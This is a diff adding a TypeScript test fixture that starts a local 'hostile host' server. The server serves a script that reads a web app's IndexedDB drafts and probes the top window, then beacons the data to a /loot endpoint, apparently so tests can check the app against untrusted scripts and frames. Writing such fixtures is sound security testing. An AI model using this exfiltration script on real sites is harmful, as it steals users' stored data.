@@ -1,0 +1,52 @@
+import { createServer } from 'node:http';
+import type { AddressInfo } from 'node:net';
+
+export interface HostileHost {
+  origin: string;
+  /** Whatever it was asked for: method and address, with what the address says. */
+  requests: string[];
+  close(): Promise<void>;
+}
+
+/** Whatever file is asked for: it takes the drafts of the origin that it runs in, and says so. */
+function thief(origin: string): string {
+  return `(async () => {
+    const send = (what) => { new Image().src = '${origin}/loot?' + encodeURIComponent(what); };
+    window.robbed = true;
+    try { top.robbed = true; send('top ' + top.document.title); } catch {}
+    send('runs at ' + window.origin);
+    const opening = indexedDB.open('luxe');
+    opening.onsuccess = () => {
+      const reading = opening.result.transaction('drafts').objectStore('drafts').getAll();
+      reading.onsuccess = () => send(JSON.stringify(reading.result.map(({ values }) => values)));
+    };
+  })();`;
+}
+
+/** A server of somebody who wants our visitors' data: any page may load anything from it. */
+export async function startHostileHost(): Promise<HostileHost> {
+  const requests: string[] = [];
+  const server = createServer((request, response) => {
+    requests.push(`${request.method} ${decodeURIComponent(request.url ?? '')}`);
+    const isPage = request.headers['sec-fetch-dest'] === 'iframe';
+    const script = thief(`http://${request.headers.host}`);
+    response
+      .writeHead(200, {
+        'content-type': isPage ? 'text/html' : 'text/javascript',
+        'access-control-allow-origin': '*',
+        'access-control-allow-headers': '*',
+        'cross-origin-resource-policy': 'cross-origin',
+      })
+      .end(isPage ? `<!doctype html><script>${script}</script>` : script);
+  });
+  await new Promise<void>((done) => server.listen(0, 'localhost', done));
+  const { port } = server.address() as AddressInfo;
+  return {
+    origin: `http://localhost:${port}`,
+    requests,
+    close() {
+      server.closeAllConnections();
+      return new Promise((done) => server.close(() => done()));
+    },
+  };
+}
